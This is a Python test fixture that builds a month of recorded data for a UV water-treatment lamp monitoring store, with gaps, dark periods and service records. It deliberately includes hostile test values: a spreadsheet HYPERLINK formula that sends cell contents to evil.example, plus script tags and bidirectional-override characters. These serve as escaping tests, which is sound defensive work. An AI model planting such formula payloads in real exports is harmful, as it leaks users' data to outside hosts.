"""A store with a month on record: lit, dark and unheard time, water, service, a sample; names as hostile as any."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import numpy as np
import pandas as pd

from ingest.evaluation.evaluate import evaluate
from ingest.store import Store
from tests.conftest import FLEET_TOML
from tests.ingest.ingest_streams import commit, steady

NOW = datetime(2026, 11, 25, 9, tzinfo=UTC)
BEGIN = datetime(2026, 10, 28, 12, tzinfo=UTC)
GAP = (datetime(2026, 10, 30, 6, tzinfo=UTC), datetime(2026, 10, 30, 12, tzinfo=UTC))
DARK = (datetime(2026, 10, 29, 15, tzinfo=UTC), datetime(2026, 10, 29, 15, 40, tzinfo=UTC))
NAME = '=HYPERLINK("http://evil.example/?"&A1,"press") <b>bold</b> & \u05d0\u05d2\u05dd'
NOTE = "=1+1 <script>x</script> serial LX-4711, \u202eturned\u202c"


def rows_of(since: datetime, until: datetime) -> pd.DataFrame:
    """Readings a minute of a lit lamp; taps run for the first ten minutes of each hour."""
    rows = steady(since, int((until - since).total_seconds() // 60), flow_l_min=0.0)
    rows["flow_l_min"] = np.where(rows["at"].dt.minute < 10, 8.0, 0.0)
    minutes = ((rows["at"] - pd.Timestamp(BEGIN)).dt.total_seconds() // 60).astype(int)
    rows["total_l"] = (minutes // 60 * 80 + np.minimum(minutes % 60, 10) * 8.0).astype(float)
    dark = (rows["at"] >= pd.Timestamp(DARK[0])) & (rows["at"] < pd.Timestamp(DARK[1]))
    rows["lamp_on"] = (~dark).astype("boolean")
    rows["intensity_w_m2"] = rows["intensity_w_m2"].where(~dark, 0.1)
    return rows


def recorded_month(path: Path) -> None:
    """Make the store: one cabin heard from 28 October to 3 November but for six hours, another never heard."""
    store = Store(path)
    text = FLEET_TOML.replace('name = "Heron-Point"', f"name = {json.dumps(NAME, ensure_ascii=False)}", 1)
    store.act("enroll", {"text": text})
    store.con.execute("INSERT INTO clock VALUES ($wall, $now, 1.0)", {"wall": datetime.now(UTC), "now": NOW})
    store.close()
    store = Store(path)
    first, last = rows_of(BEGIN, GAP[0]), rows_of(GAP[1], BEGIN + timedelta(days=6))
    commit(store, pd.concat([first, last], ignore_index=True), NOW)
    evaluate(store.con, NOW)
    key = {"cabin": "heron-point", "unit": "main"}
    at = datetime(2026, 10, 30, 18, tzinfo=UTC)
    store.act("record-service", {
        **key, "kind": "lamp-swapped", "at": at.isoformat(), "who": "@Ann Lund", "note": NOTE})
    wrong = store.act("record-service", {
        **key, "kind": "sleeve-cleaned", "at": (at - timedelta(hours=1)).isoformat(), "who": "Bo Dahl"})
    store.act("withdraw-service", {"id": wrong["id"], "by": "Cai Holm", "reason": "the wrong cabin"})
    store.act("record-service", {
        **key, "kind": "sensor-checked", "at": (at + timedelta(hours=1)).isoformat(), "who": "Bo Dahl",
        "value": 1.0})
    store.act("record-service", {
        **key, "kind": "sampled", "at": (at + timedelta(hours=2)).isoformat(), "who": "Bo Dahl", "e_coli": "0",
        "total_coliforms": "0", "lab": "Invented Lakes Laboratory", "lab_number": "-77/b"})
    store.close()
